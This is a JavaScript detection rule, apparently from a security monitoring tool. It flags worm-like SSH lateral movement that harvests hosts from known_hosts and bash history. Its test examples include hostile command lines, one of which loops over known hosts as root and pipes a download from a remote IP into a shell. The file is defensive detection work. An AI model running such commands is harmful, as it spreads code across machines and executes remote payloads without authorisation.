import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A script takes the hosts that this device has known and tries to log in to each and to run something there: worms move like this. */
export const hostKeysUncheckedLoop = commandRule({
  id: "host-keys-unchecked-loop",
  alertType: "Picket_HostKeysUncheckedLoop",
  name: "Logins tried on many known hosts",
  severity: "High",
  about:
    "A script takes the hosts that this device has known and tries to log in to each and to run something there: worms move like this.",
  tactics: ["Lateral Movement", "Discovery"],
  techniques: ["T1021.004", "T1570"],
  falsePositives: [
    "Administrators' loops over a list of their own hosts; they do not take it from known_hosts.",
  ],
  witness: ["known_hosts", "bash_history"],
  sees: (reading) => {
    const isHarvest = reading.commands.some(
      ({ text, name }) =>
        /known_hosts|_history|\.ssh\/config|\/etc\/hosts/.test(text) &&
        /^(?:cat|grep|awk|cut|sed|find|tr)$/.test(name),
    );
    return isHarvest
      ? find(reading, /^(?:ssh|scp|sshpass)$/, ({ text }) =>
          /StrictHostKeyChecking=?\s*no|BatchMode=?\s*yes/i.test(text),
        )
      : undefined;
  },
  did: "tried logins on known hosts",
  because: "it goes on from host to host",
  fires: [
    "bash -c for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@$h 'curl -s http://203.0.113.9/i|sh' & done",
    "sh -c cat /root/.ssh/known_hosts | awk '{print $1}' | xargs -I{} ssh -o BatchMode=yes {} id",
    "sh -c grep ssh /root/.bash_history; ssh -oStrictHostKeyChecking=no root@10.0.0.7 uname",
  ],
  silent: [
    "ssh-keygen -R 10.0.0.5 -f /root/.ssh/known_hosts",
    "ssh -o StrictHostKeyChecking=no build@10.0.0.4 make",
    "sh -c for h in a b c; do ssh $h uptime; done",
    "ssh-keyscan host >> /root/.ssh/known_hosts",
    "cat /root/.ssh/known_hosts",
    "scp -o BatchMode=yes a host:",
  ],
});
